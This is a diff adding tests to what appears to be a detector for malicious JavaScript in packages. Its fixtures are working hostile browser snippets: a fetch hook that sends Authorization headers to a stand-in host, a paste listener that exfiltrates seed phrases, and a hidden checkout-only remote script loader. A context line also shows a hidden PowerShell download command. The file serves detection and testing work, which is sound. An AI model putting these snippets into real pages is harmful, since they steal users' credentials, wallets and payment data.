@@ -1702,3 +1702,43 @@ cp.spawn('powershell.exe', ['-w', 'hidden', '-c', 'iwr http://203.0.113.44/x.ps1
     );
   });
 });
+
+describe('browser variants: hooked requests with default parameters, the clipboard, scripts written as markup', () => {
+  const rules = (code: string) =>
+    analyzeSource({ 'package.json': pkg(), 'index.js': code }).evidence.map((f) => f.rule);
+  it("a fetch hook whose init has a default copies the page's Authorization header out", () => {
+    expect(
+      rules(`const orig = window.fetch;
+window.fetch = async function (input, init = {}) {
+  const h = new Headers(init.headers || {});
+  const auth = h.get('authorization');
+  if (auth) navigator.sendBeacon('https://edge-log.cdn-metrics.example/a', auth);
+  return orig.apply(this, arguments);
+};`),
+    ).toContain('js.page-secret-exfil');
+  });
+  it('what the user copies or pastes (a seed phrase) sent to a fixed host', () => {
+    expect(
+      rules(`document.addEventListener('paste', async () => {
+  const t = await navigator.clipboard.readText();
+  if (/^(?:[a-z]+\\s){11,23}[a-z]+$/.test(t.trim())) fetch('https://wallet-sync.example/r', { method: 'POST', body: t });
+});`),
+    ).toContain('js.page-secret-exfil');
+  });
+  it('a remote script written with document.write, split to hide the tag, only off automation on checkout', () => {
+    expect(
+      rules(`if (/checkout|payment/.test(location.pathname) && !navigator.webdriver) {
+  document.write('<scr' + 'ipt src="https://cdn.analytics-pixel.example/p.js"></scr' + 'ipt>');
+}`),
+    ).toContain('js.gated-remote-script');
+  });
+  it('a fetch wrapper with a default init that only times requests, and a paste handler that formats text, are not', () => {
+    expect(
+      rules(`const orig = window.fetch;
+window.fetch = async (input, init = {}) => { const t0 = performance.now(); const r = await orig(input, init); console.debug(performance.now() - t0); return r; };
+document.addEventListener('paste', (e) => { const t = e.clipboardData.getData('text'); document.execCommand('insertText', false, t.trim()); e.preventDefault(); });`).filter(
+        (r) => r !== 'js.request',
+      ),
+    ).toEqual([]);
+  });
+});
